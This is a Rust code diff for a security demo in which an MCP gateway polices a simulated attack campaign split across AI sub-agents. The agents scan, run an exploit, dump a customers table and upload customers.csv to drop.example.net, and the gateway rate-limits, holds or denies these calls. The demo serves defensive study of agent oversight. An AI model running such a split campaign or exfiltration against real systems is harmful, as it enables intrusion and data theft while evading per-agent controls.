@@ -1,19 +1,22 @@
-//! The demo's Run (the campaign through the MCP gateway) and Audit (the ledger afterwards).
+//! Run: the campaign through the MCP gateway. The gateway is served in-process on loopback
+//! (Streamable HTTP) in front of the simulated campaign tool server, which it starts as a child
+//! process (`truststack demo --campaign-server`, stdio). The agents are MCP clients, each with
+//! its own credential; the humans answer the held call at the gateway's approvals endpoint with
+//! theirs.
 
 use super::mcp_client::{CallResult, Session};
-use super::scenario::Identities;
+use super::walk::{Identities, ONCALL, OPERATOR};
 use super::Story;
 use anyhow::{bail, Context};
 use serde::Serialize;
 use serde_json::{json, Value};
+use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 use std::sync::Arc;
 use std::time::{Duration, Instant};
-use truststack_engine::ledger::{
-    base64_hash, verify_file, Ledger, LedgerConfig, DEFAULT_CHECKPOINT_EVERY, DEFAULT_ORIGIN,
-};
 use truststack_gateway::{Gateway, GatewayConfig};
 
+/// What the gateway decided, counted over every call of the run.
 #[derive(Serialize, Default, Clone, Copy)]
 pub struct Counts {
     pub calls: usize,
@@ -26,15 +29,34 @@ pub struct Counts {
     pub benign_blocked: usize,
 }
 
+/// What the run showed, for `--json`.
+#[derive(Serialize, Default)]
+pub struct Findings {
+    /// The tools `tools/list` showed each agent.
+    pub tools_visible: BTreeMap<String, Vec<String>>,
+    /// The number of the first internal scan denied (101 when the rate limit is exact).
+    pub first_denied_scan: Option<usize>,
+    pub scans_allowed: usize,
+    pub scans_denied: usize,
+    pub external_scan_policies: Vec<String>,
+    /// The held exploitation: its policies and approval, the agent's progress messages.
+    pub held_policies: Vec<String>,
+    pub approval_id: String,
+    pub progress_notifications: usize,
+    /// HTTP statuses of the answers: the patch agent's own, the operator's, on-call's.
+    pub agent_approval_status: u16,
+    pub operator_approval_status: u16,
+    pub oncall_approval_status: u16,
+    pub exploitation_ran: bool,
+    pub exfiltration_policies: Vec<String>,
+    pub benign_calls: usize,
+}
+
 pub struct Outcome {
     pub counts: Counts,
     pub calls_per_second: f64,
     pub ledger: PathBuf,
-}
-
-pub struct Audit {
-    pub verified: bool,
-    pub tamper_detected_at: Option<u64>,
+    pub findings: Findings,
 }
 
 #[derive(Clone, Copy, PartialEq, Eq)]
@@ -45,53 +67,83 @@ enum Who {
     Inventory,
 }
 
-/// One step of the campaign (or of the benign work in between).
+impl Who {
+    fn name(self) -> &'static str {
+        match self {
+            Who::Orchestrator => "orchestrator",
+            Who::Recon => "recon",
+            Who::Patch => "patch",
+            Who::Inventory => "inventory",
+        }
+    }
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    /// A step of the campaign.
+    Attack,
+    /// One of the internal scans of the reconnaissance burst.
+    Scan,
+    /// Routine work by an unrelated agent.
+    Benign,
+    /// The call the campaign's escalation hinges on: held for a human.
+    Escalation,
+}
+
+/// One call of the campaign (or of the benign work in between).
 struct Step {
     who: Who,
     label: String,
     tool: &'static str,
     args: Value,
-    benign: bool,
+    kind: Kind,
 }
 
-fn step(who: Who, label: impl Into<String>, tool: &'static str, args: Value) -> Step {
+fn step(who: Who, kind: Kind, label: impl Into<String>, tool: &'static str, args: Value) -> Step {
     Step {
         who,
         label: label.into(),
         tool,
         args,
-        benign: who == Who::Inventory,
+        kind,
     }
 }
 
-/// The campaign as the attacker ran it, split across sub-agents, with an inventory agent's
-/// routine work interleaved.
+/// The internal scans of the reconnaissance burst.
+const SCANS: usize = 160;
+
+/// The campaign as the attacker ran it, split across sub-agents so that each one's calls look
+/// harmless, with an unrelated agent's routine work interleaved.
 fn script() -> Vec<Step> {
     let mut s = vec![step(
         Who::Orchestrator,
-        "plan",
+        Kind::Attack,
+        "plan the engagement",
         "read_docs",
         json!({"page": "targets"}),
     )];
-    let benign = [
+    let routine = [
         ("read_docs", json!({"page": "vpn"})),
-        ("nmap_scan", json!({"target": "10.2.0.1"})),
         ("create_ticket", json!({"title": "rotate certificates"})),
         ("run_tests", json!({"suite": "smoke"})),
+        // After the recon agent was cut off: another orchestration's scans are not affected.
+        ("nmap_scan", json!({"target": "10.2.0.1"})),
     ];
-    for i in 0..160u32 {
+    for i in 0..SCANS {
         if i == 50 {
             s.push(step(
                 Who::Recon,
-                "public-range scan",
+                Kind::Attack,
+                "scan a public range",
                 "nmap_scan",
                 json!({"target": "203.0.113.0/24"}),
             ));
         }
         if i % 40 == 20 {
-            let (tool, args) = &benign[(i / 40) as usize % benign.len()];
+            let (tool, args) = &routine[i / 40 % routine.len()];
             s.push(step(
                 Who::Inventory,
+                Kind::Benign,
                 format!("routine {tool}"),
                 tool,
                 args.clone(),
@@ -99,45 +151,53 @@ fn script() -> Vec<Step> {
         }
         s.push(step(
             Who::Recon,
-            format!("scan {:03}", i + 1),
+            Kind::Scan,
+            format!("scan #{:03}", i + 1),
             "nmap_scan",
             json!({"target": format!("10.1.{}.{}", i / 256, i % 256)}),
         ));
     }
-    s.push(step(
-        Who::Patch,
-        "code analysis",
-        "code_review",
-        json!({"repo": "svc-billing"}),
-    ));
-    s.push(step(
-        Who::Patch,
-        "exploitation",
-        "exploit_runner",
-        json!({"target": "10.1.0.7", "payload": "cve-2026-0001"}),
-    ));
-    s.push(step(
-        Who::Orchestrator,
-        "production DB read",
-        "prod_db_query",
-        json!({"sql": "SELECT * FROM customers"}),
-    ));
-    s.push(step(
-        Who::Orchestrator,
-        "exfiltration",
-        "http_upload",
-        json!({"url": "https://drop.example.net/u", "file": "customers.csv"}),
-    ));
-    s.push(step(
-        Who::Inventory,
-        "routine run_tests",
-        "run_tests",
-        json!({"suite": "nightly"}),
-    ));
+    s.extend([
+        step(
+            Who::Recon,
+            Kind::Attack,
+            "analyse the code of svc-billing",
+            "code_review",
+            json!({"repo": "svc-billing"}),
+        ),
+        step(
+            Who::Patch,
+            Kind::Escalation,
+            "exploit CVE-2026-0001 on 10.1.0.7",
+            "exploit_runner",
+            json!({"target": "10.1.0.7", "payload": "cve-2026-0001"}),
+        ),
+        step(
+            Who::Patch,
+            Kind::Attack,
+            "read the customers table",
+            "prod_db_query",
+            json!({"sql": "SELECT * FROM customers"}),
+        ),
+        step(
+            Who::Recon,
+            Kind::Attack,
+            "upload customers.csv outside",
+            "http_upload",
+            json!({"url": "https://drop.example.net/u", "file": "customers.csv"}),
+        ),
+        step(
+            Who::Inventory,
+            Kind::Benign,
+            "routine run_tests",
+            "run_tests",
+            json!({"suite": "nightly"}),
+        ),
+    ]);
     s
 }
 
-#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+#[derive(Clone, Copy, PartialEq, Eq)]
 enum Fate {
     Allowed,
     HeldThenAllowed,
@@ -145,50 +205,49 @@ enum Fate {
 }
 
 struct Done {
-    label: String,
-    who: Who,
-    tool: &'static str,
-    benign: bool,
+    step: Step,
     fate: Fate,
     policies: Vec<String>,
     reason: String,
 }
 
-fn fate_of(r: &CallResult, held: bool) -> (Fate, Vec<String>, String) {
-    if !r.is_error {
-        let fate = if held {
-            Fate::HeldThenAllowed
-        } else {
-            Fate::Allowed
-        };
-        return (fate, Vec::new(), String::new());
+fn done(step: Step, r: &CallResult, held: bool) -> Done {
+    let fate = match (r.is_error, held) {
+        (true, _) => Fate::Denied,
+        (false, true) => Fate::HeldThenAllowed,
+        (false, false) => Fate::Allowed,
+    };
+    let (policies, reason) = if r.is_error {
+        (r.policies(), r.reason())
+    } else {
+        (Vec::new(), String::new())
+    };
+    Done {
+        step,
+        fate,
+        policies,
+        reason,
     }
-    let d = r.decision.clone().unwrap_or(Value::Null);
-    let policies = d["policies"]
-        .as_array()
-        .map(|ps| {
-            ps.iter()
-                .filter_map(|p| p.as_str().or_else(|| p["id"].as_str()))
-                .map(String::from)
-                .collect()
-        })
-        .unwrap_or_default();
-    let reason = d["reason"].as_str().unwrap_or(&r.text).to_string();
-    (Fate::Denied, policies, reason)
 }
 
 fn gateway_config(dir: &Path) -> anyhow::Result<GatewayConfig> {
     let exe = std::env::current_exe().context("locating the truststack binary")?;
     let exe = serde_json::to_string(&exe.display().to_string())?;
     let text = format!(
-        "# The MCP gateway of `truststack demo`: the article's policies at agent and at\n\
-         # orchestration scope, signed credentials, a write-ahead ledger, and the simulated\n\
-         # campaign tools as the upstream server.\n\
+        "# The MCP gateway of `truststack demo`. Run it yourself with\n\
+         #   truststack gateway --config gateway.toml --listen 127.0.0.1:8808\n\
+         # and connect an MCP client with a token from credentials/.\n\
+         #\n\
+         # The article's three policies per agent (seed.tsp), and the same controls over the whole\n\
+         # orchestration tree (delegation-root.tsp), which stops a campaign split across sub-agents.\n\
          policies = [\"scenario/policies/seed.tsp\", \"scenario/policies/delegation-root.tsp\"]\n\
          catalog = \"scenario/catalog.toml\"\n\n\
-         [settings]\nunknown_tools = \"deny\"\n\n\
+         [settings]\ndefault_decision = \"allow\"\nunknown_tools = \"deny\"\n\n\
+         # Agents and approvers authenticate with credentials from this issuer.\n\
          [identity]\nissuer = \"issuer\"\n\n\
+         # Every decision is written here before it is returned (signing key: ledger.key).\n\
          [ledger]\npath = \"ledger.db\"\n\n\
+         # The simulated campaign tools: an MCP server over stdio, one process per session.\n\
          [[upstream]]\nname = \"gtg1002\"\ncommand = [{exe}, \"demo\", \"--campaign-server\"]\n"
     );
     let path = dir.join("gateway.toml");
@@ -208,6 +267,7 @@ async fn approvals(http: &reqwest::Client, base: &str, token: &str) -> anyhow::R
     Ok(r.json().await?)
 }
 
+/// `POST /approvals/{id}` with `token` as the approver's credential.
 async fn answer(
     http: &reqwest::Client,
     base: &str,
@@ -225,14 +285,26 @@ async fn answer(
     Ok((status, r.json().await.unwrap_or(Value::Null)))
 }
 
-/// The held exploitation: the operator who launched the agents tries to approve it, then the
-/// on-call approver grants it with a lease. Returns the controls' evidence.
+fn answer_text(body: &Value) -> String {
+    body["error"]
+        .as_str()
+        .or_else(|| body["reason"].as_str())
+        .or_else(|| body["result"].as_str())
+        .unwrap_or_default()
+        .to_string()
+}
+
+/// The held exploitation, from the humans' side: the patch agent tries to approve its own
+/// call, then the operator who launched the orchestration, then the on-call engineer grants it
+/// with a lease.
 async fn approve(
     story: &mut Story,
+    f: &mut Findings,
     http: &reqwest::Client,
     base: &str,
     ids: &Identities,
 ) -> anyhow::Result<()> {
+    let st = story.style;
     let deadline = Instant::now() + Duration::from_secs(20);
     let held = loop {
         let pending = approvals(http, base, &ids.oncall).await?;
@@ -242,36 +314,53 @@ async fn approve(
         if Instant::now() > deadline {
             bail!("the exploitation was never held for approval");
         }
-        tokio::time::sleep(Duration::from_millis(20)).await;
+        tokio::time::sleep(Duration::from_millis(10)).await;
     };
-    let id = held["approval_id"].as_str().unwrap_or_default().to_string();
-    let policies: Vec<&str> = held["policies"]
+    f.approval_id = held["approval_id"].as_str().unwrap_or_default().to_string();
+    f.held_policies = held["policies"]
         .as_array()
-        .map(|ps| ps.iter().filter_map(|p| p["id"].as_str()).collect())
+        .map(|ps| {
+            ps.iter()
+                .filter_map(|p| p["id"].as_str().map(String::from))
+                .collect()
+        })
         .unwrap_or_default();
+    let id = f.approval_id.clone();
     story.line(format!(
-        "  {} exploitation by {} held for a human by {} (approval {id})",
-        story.style.yellow("⏸"),
+        "    the approvals queue (GET /approvals): {id}, {} by {}, policy {}, approvers {}",
+        held["call"]["tool"].as_str().unwrap_or("?"),
         held["call"]["agent"].as_str().unwrap_or("?"),
-        policies.join(", ")
+        f.held_policies.join(", "),
+        held["approvers"]
+            .as_array()
+            .map(|a| a
+                .iter()
+                .filter_map(Value::as_str)
+                .collect::<Vec<_>>()
+                .join(", "))
+            .unwrap_or_default()
     ));
-    story.check(
-        "run",
-        "the move to exploitation is held for a human",
-        policies.contains(&"chain-of-command"),
-        "scan + code analysis + exploitation in one orchestration (delegation_root), split over two sub-agents",
+
+    let tell = |ok: bool, who: &str, what: &str, status: u16, body: &Value| {
+        let mark = if ok { st.green("✓") } else { st.red("✗") };
+        story.line(format!(
+            "    {mark} {who:<26} {what:<32} → HTTP {status}: {}",
+            answer_text(body)
+        ));
+    };
+    let grant = json!({"grant": true});
+    let (status, body) = answer(http, base, &id, &ids.patch, grant.clone()).await?;
+    f.agent_approval_status = status;
+    tell(
+        status == 200,
+        "the patch agent",
+        "approves its own call",
+        status,
+        &body,
     );
-    let (status, body) = answer(http, base, &id, &ids.operator, json!({"grant": true})).await?;
-    story.line(format!(
-        "    user:operator@acme.example tries to approve: {status} {}",
-        body["error"].as_str().unwrap_or("")
-    ));
-    story.check(
-        "run",
-        "the launching operator's own approval is refused",
-        status == 403,
-        "separation of duties: the operator is in the call's chain of command",
-    );
+    let (status, body) = answer(http, base, &id, &ids.operator, grant).await?;
+    f.operator_approval_status = status;
+    tell(status == 200, OPERATOR, "approves it", status, &body);
     let (status, body) = answer(
         http,
         base,
@@ -280,53 +369,56 @@ async fn approve(
         json!({"grant": true, "lease": "30min"}),
     )
     .await?;
-    story.line(format!(
-        "    user:oncall@acme.example grants it with a 30-minute lease: {status} {}",
-        body["result"].as_str().unwrap_or("")
-    ));
-    story.check(
-        "run",
-        "the on-call approver's decision is applied",
-        status == 200 && body["result"] == "granted",
-        format!("approver {}", body["approver"].as_str().unwrap_or("?")),
+    f.oncall_approval_status = status;
+    tell(
+        status == 200,
+        ONCALL,
+        "grants it, with a 30-minute lease",
+        status,
+        &body,
     );
     Ok(())
 }
 
-fn print_run(story: &Story, done: &[Done]) {
+/// Prints the calls done so far, consecutive alike calls on one line.
+fn print_calls(story: &Story, done: &[Done]) {
     let st = story.style;
     let mut i = 0;
     while i < done.len() {
         let d = &done[i];
         let mut j = i + 1;
         while j < done.len()
-            && done[j].who == d.who
-            && done[j].tool == d.tool
+            && done[j].step.who == d.step.who
+            && done[j].step.tool == d.step.tool
+            && done[j].step.kind == d.step.kind
             && done[j].fate == d.fate
             && done[j].policies == d.policies
         {
             j += 1;
         }
         let label = if j - i > 1 {
-            format!("{} … {} ({} calls)", d.label, done[j - 1].label, j - i)
+            format!(
+                "{} … {} ({} calls)",
+                d.step.label,
+                done[j - 1].step.label.trim_start_matches("scan "),
+                j - i
+            )
         } else {
-            d.label.clone()
-        };
-        let who = match d.who {
-            Who::Orchestrator => "orchestrator",
-            Who::Recon => "recon",
-            Who::Patch => "patch",
-            Who::Inventory => "inventory",
+            d.step.label.clone()
         };
         let (mark, what) = match d.fate {
-            Fate::Allowed => (st.green("✓"), "allowed".to_string()),
-            Fate::HeldThenAllowed => (st.yellow("⏸"), "held, granted, run".to_string()),
-            Fate::Denied => (st.red("✗"), format!("{} — {}", st.red("DENIED"), d.reason)),
+            Fate::Allowed => (st.green("✓"), st.green("allowed")),
+            Fate::HeldThenAllowed => (st.yellow("⏸"), st.yellow("held, granted, ran")),
+            Fate::Denied => (st.red("✗"), st.red("DENIED")),
         };
         story.line(format!(
-            "  {mark} {who:<12} {:<16} {label:<34} {what}",
-            d.tool
+            "  {mark} {:<12} {:<15} {label:<36} {what}",
+            d.step.who.name(),
+            d.step.tool
         ));
+        if d.fate == Fate::Denied {
+            story.line(format!("  {:<31}{}", "", st.dim(&d.reason)));
+        }
         i = j;
     }
 }
@@ -334,74 +426,133 @@ fn print_run(story: &Story, done: &[Done]) {
 /// Run: the campaign through the MCP gateway.
 pub async fn run(dir: &Path, ids: &Identities, story: &mut Story) -> anyhow::Result<Outcome> {
     story.section(
-        "3. Run — the campaign through the MCP gateway",
-        "every tools/call decided in real time; decisions written ahead to the ledger",
+        "3. RUN — the campaign through the MCP gateway",
+        "Every tools/call is decided in real time against policy-as-code, over what this agent AND\n\
+         its whole orchestration already did; risky calls wait for a human; every decision is\n\
+         written to the ledger before it is returned.",
     );
+    let st = story.style;
     let config = gateway_config(dir)?;
     let gateway = Arc::new(Gateway::from_config(config).context("starting the gateway")?);
-    gateway.spawn_expiry(Duration::from_millis(200));
+    let _expiry = gateway.spawn_expiry(Duration::from_millis(200));
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
     let base = format!("http://{}", listener.local_addr()?);
     let serving = Arc::clone(&gateway);
-    tokio::spawn(async move { serving.serve_http(listener).await });
+    let server = tokio::spawn(async move { serving.serve_http(listener).await });
     story.line(format!(
-        "  gateway on {base}/mcp in front of the simulated campaign tool server (stdio); policies: seed#1-3 (per agent) and their delegation_root versions"
+        "  gateway {base}/mcp (Streamable HTTP) → the simulated campaign tool server (MCP over stdio)\n\
+         \x20 policies: seed#1-3 per agent, and scan-rate-limit, chain-of-command,\n\
+         \x20 no-exfiltration-after-prod-read per orchestration (TARGET: delegation_root)"
     ));
 
     let http = reqwest::Client::new();
     let url = format!("{base}/mcp");
+    let mut f = Findings::default();
     let mut orchestrator = Session::open(&http, &url, &ids.orchestrator).await?;
     let mut recon = Session::open(&http, &url, &ids.recon).await?;
-    let patch = Session::open(&http, &url, &ids.patch).await?;
+    let mut patch = Session::open(&http, &url, &ids.patch).await?;
     let mut inventory = Session::open(&http, &url, &ids.inventory).await?;
-    let mut patch = Some(patch);
+    for (who, s) in [
+        (Who::Recon, &mut recon),
+        (Who::Patch, &mut patch),
+        (Who::Inventory, &mut inventory),
+    ] {
+        let tools = s.list_tools().await?;
+        story.line(format!(
+            "  {:<9} sees {} of the server's tools: {}",
+            who.name(),
+            tools.len(),
+            tools.join(", ")
+        ));
+        f.tools_visible.insert(who.name().to_string(), tools);
+    }
+    story.line("");
 
     let started = Instant::now();
-    let mut done_printed = 0;
-    let mut done: Vec<Done> = Vec::new();
+    let mut printed = 0;
+    let mut calls: Vec<Done> = Vec::new();
+    let mut patch = Some(patch);
     for s in script() {
-        let (result, held) = if s.tool == "exploit_runner" {
-            print_run(story, &done);
-            done_printed = done.len();
-            // The held call blocks its session; answer it from the approvers' side meanwhile.
+        if s.kind == Kind::Escalation {
+            print_calls(story, &calls[printed..]);
+            // The held call blocks its session until a human answers; the agent learns it is
+            // held from the gateway's progress notifications.
             let mut session = patch.take().context("the patch session")?;
-            let args = s.args.clone();
+            let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
+            let (tool, args) = (s.tool, s.args.clone());
             let call = tokio::spawn(async move {
-                let r = session.call("exploit_runner", &args).await;
+                let r = session.call(tool, &args, Some(&tx)).await;
                 (session, r)
             });
-            approve(story, &http, &base, ids).await?;
+            let first = tokio::time::timeout(Duration::from_secs(20), rx.recv())
+                .await
+                .ok()
+                .flatten();
+            story.line(format!(
+                "  {} {:<12} {:<15} {:<36} {}",
+                st.yellow("⏸"),
+                s.who.name(),
+                s.tool,
+                s.label,
+                st.yellow("HELD for a human")
+            ));
+            if let Some(m) = &first {
+                story.line(format!(
+                    "  {:<31}{}",
+                    "",
+                    st.dim(&format!("the agent is told: {m}"))
+                ));
+            }
+            approve(story, &mut f, &http, &base, ids).await?;
             let (session, r) = call.await?;
             patch = Some(session);
-            (r?, true)
-        } else {
-            let session = match s.who {
-                Who::Orchestrator => &mut orchestrator,
-                Who::Recon => &mut recon,
-                Who::Inventory => &mut inventory,
-                Who::Patch => patch.as_mut().context("the patch session")?,
-            };
-            (session.call(s.tool, &s.args).await?, false)
+            let r = r?;
+            f.progress_notifications = r.progress.len();
+            f.exploitation_ran = !r.is_error;
+            story.line(format!(
+                "  {} {:<12} {:<15} {:<36} {}",
+                if r.is_error {
+                    st.red("✗")
+                } else {
+                    st.yellow("⏸")
+                },
+                s.who.name(),
+                s.tool,
+                "(after the grant)",
+                if r.is_error {
+                    st.red(&format!("refused: {}", r.reason()))
+                } else {
+                    st.yellow(&format!("released and ran: {}", r.text))
+                }
+            ));
+            calls.push(done(s, &r, true));
+            printed = calls.len();
+            continue;
+        }
+        let session = match s.who {
+            Who::Orchestrator => &mut orchestrator,
+            Who::Recon => &mut recon,
+            Who::Inventory => &mut inventory,
+            Who::Patch => patch.as_mut().context("the patch session")?,
         };
-        let (fate, policies, reason) = fate_of(&result, held);
-        done.push(Done {
-            label: s.label,
-            who: s.who,
-            tool: s.tool,
-            benign: s.benign,
-            fate,
-            policies,
-            reason,
-        });
+        let r = session.call(s.tool, &s.args, None).await?;
+        calls.push(done(s, &r, false));
     }
     let elapsed = started.elapsed();
-    print_run(story, &done[done_printed..]);
+    print_calls(story, &calls[printed..]);
+    for s in [orchestrator, recon, inventory] {
+        s.close().await?;
+    }
+    if let Some(s) = patch {
+        s.close().await?;
+    }
+    server.abort();
 
     let mut counts = Counts {
-        calls: done.len(),
+        calls: calls.len(),
         ..Counts::default()
     };
-    for d in &done {
+    for d in &calls {
         match d.fate {
             Fate::Allowed => counts.allowed += 1,
             Fate::HeldThenAllowed => {
@@ -410,175 +561,156 @@ pub async fn run(dir: &Path, ids: &Identities, story: &mut Story) -> anyhow::Res
             }
             Fate::Denied => counts.denied += 1,
         }
-        if d.benign && d.fate != Fate::Allowed {
-            counts.benign_blocked += 1;
-        }
-        if !d.benign && d.fate != Fate::Allowed {
-            counts.attack_stopped += 1;
+        match d.step.kind {
+            Kind::Benign => {
+                f.benign_calls += 1;
+                if d.fate != Fate::Allowed {
+                    counts.benign_blocked += 1;
+                }
+            }
+            _ => {
+                if d.fate != Fate::Allowed {
+                    counts.attack_stopped += 1;
+                }
+            }
         }
     }
-    let internal: Vec<&Done> = done
-        .iter()
-        .filter(|d| d.who == Who::Recon && d.label.starts_with("scan "))
-        .collect();
-    let first_denied = internal.iter().position(|d| d.fate == Fate::Denied);
+    story.line(st.dim(&format!(
+        "\n  {} calls in {:.2}s, {:.0} per second (the humans' answers included)",
+        calls.len(),
+        elapsed.as_secs_f64(),
+        calls.len() as f64 / elapsed.as_secs_f64().max(1e-9)
+    )));
+    story.line("");
+    checks(story, &mut f, &calls, &counts);
+    Ok(Outcome {
+        counts,
+        calls_per_second: calls.len() as f64 / elapsed.as_secs_f64().max(1e-9),
+        ledger: dir.join("ledger.db"),
+        findings: f,
+    })
+}
+
+fn has(policies: &[String], id: &str) -> bool {
+    policies.iter().any(|p| p == id)
+}
+
+/// The Run's controls, from what the agents and the humans were answered.
+fn checks(story: &mut Story, f: &mut Findings, calls: &[Done], counts: &Counts) {
+    let expected = |tools: &str| {
+        let mut t: Vec<String> = tools.split(',').map(String::from).collect();
+        t.sort();
+        t
+    };
+    let visible = |who: &str| {
+        let mut t = f.tools_visible.get(who).cloned().unwrap_or_default();
+        t.sort();
+        t
+    };
     story.check(
+        "tools-attenuated",
         "run",
-        "the reconnaissance burst is cut off at the rate limit",
-        first_denied == Some(100) && internal[100..].iter().all(|d| d.fate == Fate::Denied),
+        "each agent is shown only the tools its credential allows",
+        visible("recon") == expected("code_review,http_upload,nmap_scan,service_probe")
+            && visible("patch") == expected("exploit_runner,prod_db_query,run_tests"),
+        "tools/list is filtered per credential: recon 4, patch 3 of the server's 11 tools",
+    );
+
+    let scans: Vec<&Done> = calls.iter().filter(|d| d.step.kind == Kind::Scan).collect();
+    f.first_denied_scan = scans
+        .iter()
+        .position(|d| d.fate == Fate::Denied)
+        .map(|i| i + 1);
+    f.scans_allowed = scans.iter().filter(|d| d.fate == Fate::Allowed).count();
+    f.scans_denied = scans.iter().filter(|d| d.fate == Fate::Denied).count();
+    let cut = scans.iter().skip(100).all(|d| d.fate == Fate::Denied);
+    story.check(
+        "rate-limit",
+        "run",
+        "the reconnaissance burst is cut off at the rate limit: the 101st scan in 5 minutes is denied",
+        f.first_denied_scan == Some(101) && f.scans_allowed == 100 && cut,
         format!(
-            "scans 1-100 allowed, {} of {} denied from scan 101 on",
-            internal.iter().filter(|d| d.fate == Fate::Denied).count(),
-            internal.len()
+            "scans #1-#100 allowed, #{}-#{SCANS} denied ({} calls)",
+            f.first_denied_scan.unwrap_or(0),
+            f.scans_denied
         ),
     );
-    let external = done.iter().find(|d| d.label == "public-range scan");
+
+    let external = calls.iter().find(|d| d.step.label == "scan a public range");
+    f.external_scan_policies = external.map(|d| d.policies.clone()).unwrap_or_default();
     story.check(
+        "external-scan",
         "run",
-        "the external scan is denied",
+        "the scan of a public address range is denied",
         external.is_some_and(|d| d.fate == Fate::Denied),
         external.map_or("not attempted".into(), |d| d.reason.clone()),
     );
-    let exfil = done.iter().find(|d| d.tool == "http_upload");
+
+    let exploit = calls.iter().find(|d| d.step.kind == Kind::Escalation);
     story.check(
+        "exploitation-held",
         "run",
-        "the exfiltration after the production DB read is denied",
-        exfil.is_some_and(|d| {
-            d.fate == Fate::Denied
-                && d.policies
-                    .iter()
-                    .any(|p| p == "no-exfiltration-after-prod-read" || p == "seed#3")
-        }),
+        "the move to exploitation is held for a human",
+        has(&f.held_policies, "chain-of-command") && f.progress_notifications > 0,
+        format!(
+            "{} held it; the agent was told through {} progress notification(s)",
+            f.held_policies.join(", "),
+            f.progress_notifications
+        ),
+    );
+    story.check(
+        "agent-approval-refused",
+        "run",
+        "the agent cannot approve its own escalation",
+        f.agent_approval_status == 403,
+        "only a human credential with the approver role may answer",
+    );
+    story.check(
+        "operator-approval-refused",
+        "run",
+        "the operator who launched the agents cannot approve it either",
+        f.operator_approval_status == 403,
+        "separation of duties: the operator is in the call's chain of command (in GTG-1002 the attackers approved their own escalations)",
+    );
+    story.check(
+        "oncall-grant",
+        "run",
+        "the on-call approver's decision is applied",
+        f.oncall_approval_status == 200
+            && f.exploitation_ran
+            && exploit.is_some_and(|d| d.fate == Fate::HeldThenAllowed),
+        format!("{ONCALL} granted it with a 30-minute lease; the held call was released and ran"),
+    );
+
+    let exfil = calls.iter().find(|d| d.step.tool == "http_upload");
+    f.exfiltration_policies = exfil.map(|d| d.policies.clone()).unwrap_or_default();
+    story.check(
+        "exfiltration-denied",
+        "run",
+        "the upload after the production database read is denied",
+        exfil.is_some_and(|d| d.fate == Fate::Denied)
+            && has(&f.exfiltration_policies, "no-exfiltration-after-prod-read"),
         exfil.map_or("not attempted".into(), |d| d.reason.clone()),
     );
     story.check(
+        "split-campaign-stopped",
+        "run",
+        "the campaign split across sub-agents is stopped at its delegation root",
+        has(&f.held_policies, "chain-of-command")
+            && !has(&f.held_policies, "seed#2")
+            && has(&f.exfiltration_policies, "no-exfiltration-after-prod-read")
+            && !has(&f.exfiltration_policies, "seed#3"),
+        "the per-agent seed#2 and seed#3 never fired (patch only exploited, recon never read the DB); \
+         chain-of-command and no-exfiltration-after-prod-read saw the orchestration",
+    );
+    story.check(
+        "benign-allowed",
         "run",
         "benign work in between stays allowed",
         counts.benign_blocked == 0,
         format!(
-            "{} routine calls by the inventory agent",
-            done.iter().filter(|d| d.benign).count()
+            "{} routine calls by the inventory agent, including a scan after recon was cut off",
+            f.benign_calls
         ),
     );
-    let calls_per_second = done.len() as f64 / elapsed.as_secs_f64().max(1e-9);
-    story.line(format!(
-        "  {} calls in {:.2}s ({calls_per_second:.0} calls/s, the approval wait included)",
-        done.len(),
-        elapsed.as_secs_f64()
-    ));
-    Ok(Outcome {
-        counts,
-        calls_per_second,
-        ledger: dir.join("ledger.db"),
-    })
-}
-
-/// Audit: the ledger, verified by anyone.
-pub fn audit(dir: &Path, outcome: &Outcome, story: &mut Story) -> anyhow::Result<Audit> {
-    story.section(
-        "4. Audit — the tamper-evident ledger",
-        "RFC 6962 Merkle tree, C2SP signed checkpoints",
-    );
-    let path = &outcome.ledger;
-    let ledger = Ledger::open(
-        path,
-        &LedgerConfig {
-            key_file: path.with_extension("key"),
-            origin: DEFAULT_ORIGIN.into(),
-            checkpoint_every: DEFAULT_CHECKPOINT_EVERY,
-        },
-    )
-    .with_context(|| format!("ledger {}", path.display()))?;
-    let checkpoint = ledger.checkpoint()?;
-    story.line("  signed checkpoint:");
-    for line in checkpoint.note.lines() {
-        story.line(format!("    {line}"));
-    }
-    let mut exfil = None;
-    for entry in ledger.entries(0..ledger.len())? {
-        let r = entry.record()?;
-        if r["kind"] == "decision"
-            && r["call"]["tool"] == "http_upload"
-            && r["decision"]["decision"] == "deny"
-        {
-            exfil = Some(entry);
-        }
-    }
-    let exfil = exfil.context("no exfiltration denial in the ledger")?;
-    let proof = ledger.inclusion_proof(exfil.index, checkpoint.checkpoint.size)?;
-    let proved = proof
-        .verify(&exfil.leaf, &checkpoint.checkpoint.root)
-        .is_ok();
-    story.line(format!(
-        "  inclusion proof for the exfiltration denial (entry {} of {}): leaf {}",
-        exfil.index,
-        checkpoint.checkpoint.size,
-        base64_hash(&exfil.leaf)
-    ));
-    for h in &proof.path {
-        story.line(format!("    {}", base64_hash(h)));
-    }
-    story.check(
-        "audit",
-        "the exfiltration denial is provably in the signed log",
-        proved,
-        format!(
-            "{} hashes recompute the checkpoint's root",
-            proof.path.len()
-        ),
-    );
-    drop(ledger);
-
-    let report = verify_file(path, None);
-    story.line(format!(
-        "  $ truststack ledger verify {}\n    {}",
-        path.display(),
-        match &report {
-            Ok(r) => r.to_string(),
-            Err(e) => e.to_string(),
-        }
-    ));
-    let verified = report.is_ok();
-    story.check(
-        "audit",
-        "the ledger verifies",
-        verified,
-        "every leaf, the tree and every checkpoint signature recomputed",
-    );
-
-    // An insider edits one record of a copy: the denial becomes an allow.
-    let copy = dir.join("ledger-tampered.db");
-    std::fs::copy(path, &copy)?;
-    {
-        let conn = rusqlite::Connection::open(&copy)?;
-        let record: String = conn.query_row(
-            "SELECT record FROM entries WHERE idx = ?1",
-            [exfil.index],
-            |r| r.get(0),
-        )?;
-        conn.execute(
-            "UPDATE entries SET record = ?1 WHERE idx = ?2",
-            rusqlite::params![record.replacen("\"deny\"", "\"allow\"", 1), exfil.index],
-        )?;
-    }
-    let tampered = verify_file(&copy, None);
-    let at = tampered.as_ref().err().and_then(|e| e.first_bad_index());
-    story.line(format!(
-        "  a copy with entry {} edited (deny → allow): {}",
-        exfil.index,
-        match &tampered {
-            Ok(_) => "verified (!)".to_string(),
-            Err(e) => e.to_string(),
-        }
-    ));
-    story.check(
-        "audit",
-        "editing one record is detected at the exact index",
-        at == Some(exfil.index),
